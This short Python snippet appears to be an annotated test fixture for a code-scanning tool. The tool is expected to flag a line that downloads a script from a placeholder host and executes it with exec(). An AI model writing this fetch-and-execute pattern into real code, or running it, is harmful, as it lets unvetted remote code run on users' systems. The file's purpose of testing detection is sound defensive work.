import requests

code = requests.get("https://cdn.example.org/plugin.py").text  # want: source
exec(code)  # want: finding
